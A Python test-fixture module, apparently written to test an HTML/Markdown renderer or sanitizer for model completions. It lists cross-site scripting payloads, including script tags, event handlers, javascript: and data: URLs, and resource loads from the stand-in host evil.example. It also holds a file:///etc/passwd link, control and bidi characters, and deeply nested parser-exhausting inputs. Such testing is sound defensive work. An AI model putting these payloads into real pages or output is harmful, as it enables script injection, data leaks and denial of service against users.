"""Completions that try to do something. Each would set `window.hacked` or ask evil.example for something."""

from __future__ import annotations

EVIL = "https://evil.example"

HTML = [
    "<script>window.hacked = 1</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>window.hacked = 1</scr</script>ipt>",
    "<img src=x onerror=window.hacked=1>",
    '<img src="https://evil.example/p.png" srcset="https://evil.example/q.png 2x">',
    "<svg onload=window.hacked=1><animate onbegin=window.hacked=1 attributeName=x dur=1s></svg>",
    "<svg><script>window.hacked=1</script><a xlink:href='javascript:window.hacked=1'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=window.hacked=1></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.hacked=1&gt;'>",
    "<math href='javascript:window.hacked=1'>CLICK</math>",
    "<style>@import 'https://evil.example/s.css'; body { background: url(https://evil.example/b.png) }</style>",
    "<div style='position:fixed;inset:0;z-index:99;background:url(https://evil.example/c.png)'>covers all</div>",
    "<link rel=stylesheet href=https://evil.example/s.css><link rel=prefetch href=https://evil.example/p>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<iframe src=https://evil.example/ srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<object data=https://evil.example/o></object><embed src=https://evil.example/e>",
    "<form action=https://evil.example/><input name=task autofocus onfocus=hacked=1><button>Send</button></form>",
    "<video src=https://evil.example/v poster=https://evil.example/p autoplay onerror=window.hacked=1></video>",
    "<details open ontoggle=window.hacked=1><summary>x</summary></details>",
    "<body onload=window.hacked=1><marquee onstart=window.hacked=1>",
    "<template><script>hacked=1</script></template><noscript><p title='</noscript><img src=x onerror=hacked=1>'>",
    "<a id=live href=x></a><a id=task name=task></a><img name=cookie><form id=main name=localStorage></form>",
    "<input type=image src=https://evil.example/i><isindex action=javascript:window.hacked=1>",
    "<dialog open id=help><button popovertarget=x>x</button></dialog>",
    "<x contenteditable onblur=window.hacked=1 tabindex=1 autofocus>x</x>",
    "&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;img src=x onerror=window.hacked=1&#62;",
    "</p></div></article></main></form><h1>Task 99</h1><script>window.hacked=1</script>",
    "<!--><img src=x onerror=window.hacked=1>--> <![CDATA[<img src=x onerror=window.hacked=1>]]> <?php x ?>",
    "<div class='dock' id='send' data-place=0 role=alert aria-live=assertive>styled</div>",
]

MARKDOWN = [
    "[click](javascript:window.hacked=1)",
    "[click](JaVaScRiPt:hacked=1) [click](java\nscript:hacked=1) [click](&#106;avascript:hacked=1)",
    "[click](data:text/html,<script>window.hacked=1</script>) [x](vbscript:x) [y](file:///etc/passwd) [z](blob:x)",
    "![t](https://evil.example/t.png) ![t](//evil.example/t.png 'a \"title\" onerror=window.hacked=1')",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[![nested](https://evil.example/n.png)](https://evil.example/l)",
    "[a][r] ![b][r]\n\n[r]: https://evil.example/ref 'x\" onload=\"window.hacked=1'",
    "<https://evil.example/auto> <javascript:window.hacked=1> www.evil.example https://evil.example/bare",
    '[x](https://evil.example/" onmouseover="window.hacked=1) [y](<https://evil.example/ onclick=x>)',
    "[//evil.example](//evil.example) [rel](/api/session) [frag](#live) [mail](mailto:x@evil.example)",
    '```html\n<script>window.hacked=1</script>\n```\n\n~~~" onload=hacked=1\nx\n~~~\n\n    <script>x</script>',
    "`<img src=x onerror=window.hacked=1>` ``<script>`` \\<script\\>",
    "# <img src=x onerror=window.hacked=1>\n\nTitle <script>\n===\n\n> <svg onload=window.hacked=1>",
    "| <script>hacked=1</script> | ![x](https://evil.example/c.png) |\n|:-:|--|\n| <img onerror=hacked=1> | b |",
    "1. <script>\n   window.hacked=1\n   </script>\n99999999999. x\n\n* [ ] <input onfocus=hacked=1 autofocus>",
    "\\[x](javascript:window.hacked=1) *a <b onclick=window.hacked=1>b* c</b>",
    "[x]: javascript:window.hacked=1\n\n[x] [x][] ![x]",
]

STRANGE = [
    "safe \u202e desrever \u2066 isolated \u2069 \u200e\u200f\u061c",
    "nul \0 bell \x07 escape \x1b[31m del \x7f c1 \x85 vt \x0b",
    "zero\u200bwidth\u2060joined\ufeffbom tags\U000e0041\U000e0042 persian\u200cok 👨\u200d👩\u200d👧",
    "line\u2028separator paragraph\u2029separator\r\nwindows\rmac",
    "Z" + "̷͇͔̱̀͂" * 300,
    "\ufffd \uffff \U0010ffff \ud7ff",
    "   \n\t ",
    "",
]

NESTED = [
    "> " * 3000 + "deep",
    ">" * 30_000,
    "\n".join("  " * i + "* x" for i in range(190)),
    "- " * 10_000 + "x",
    "[" * 20_000 + "](" * 5_000,
    "*a **b " * 5_000,
    "`" * 20_000 + "a" + "``a`" * 3_000,
    "<" * 20_000 + "<div>" * 3_000,
    "![" * 15_000,
    "&" * 30_000 + "&amp;" * 1_000,
    "|" * 5_000 + "\n" + "|-" * 5_000 + "\n" + "|\n" * 2_000,
    "x" * 1_000_000,
    "word " * 100_000,
]

HOSTILE = HTML + MARKDOWN + STRANGE
